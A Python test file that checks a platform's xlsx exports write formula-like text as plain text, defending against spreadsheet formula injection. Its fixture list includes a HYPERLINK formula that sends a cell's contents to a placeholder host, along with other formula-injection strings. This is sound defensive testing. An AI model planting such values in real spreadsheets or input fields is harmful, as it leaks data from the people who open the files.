"""Texts that begin like a formula are written as text in every xlsx the platform makes,
so opening an export never runs what someone typed (OWASP CSV/formula injection)."""
from io import BytesIO

from openpyxl import Workbook, load_workbook

from gongzhi.core.scope import Scope
from gongzhi.core.spreadsheets import text_row
from gongzhi.people import exporter, services
from tests import factories as f
from tests.people.test_import import person, run, write_xlsx

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+1+2", "-3+4", "@SUM(A1)", "\t=1+1"]


def _cells(path_or_bytes):
    wb = load_workbook(BytesIO(path_or_bytes) if isinstance(path_or_bytes, bytes) else path_or_bytes)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def test_text_row_makes_formula_like_texts_plain_text_in_both_kinds_of_sheet(tmp_path):
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("x") if write_only else wb.active
        ws.append(text_row(ws, [*HOSTILE, "普通文字", 42, None]))
        wb.save(tmp_path / f"{write_only}.xlsx")
        cells = _cells(tmp_path / f"{write_only}.xlsx")
        assert [c.value for c in cells[:5]] == HOSTILE and all(c.data_type == "s" for c in cells[:5])
        assert cells[5].value == "普通文字" and cells[6].value == 42


def test_the_resident_export_writes_a_hostile_name_as_text(world, tmp_path):
    services.resident_register(household=world.hh_a1, name=HOSTILE[0], id_number=f.id_number(), relation="10",
                               residence_status="registered")
    exporter.export_residents(path=tmp_path / "a.xlsx", scope=Scope.for_user(world.community_worker_a),
                              by=world.community_worker_a, unmasked=False)
    hostile = [c for c in _cells(tmp_path / "a.xlsx") if c.value == HOSTILE[0]]
    assert hostile and all(c.data_type == "s" for c in hostile)
    assert not any(c.data_type == "f" for c in _cells(tmp_path / "a.xlsx"))


def test_the_rejected_rows_report_writes_hostile_cells_as_text(world, tmp_path):
    rows = [person(world, name="@SUM(A1)", id_number="123")]  # refused: the ID number is invalid
    result = run(write_xlsx(tmp_path / "r.xlsx", rows))
    assert result.rejected == 1
    cells = _cells(result.report_path)
    assert any(c.value == "@SUM(A1)" and c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for c in cells)


def assert_written_as_text(xlsx: bytes, value: str):
    """`value` is in the workbook, as a text cell, and no cell of it is a formula."""
    cells = _cells(xlsx)
    assert any(c.value == value for c in cells), f"{value!r} is not in the workbook"
    assert all(c.data_type == "s" for c in cells if c.value == value)
    assert not any(c.data_type == "f" for c in cells)
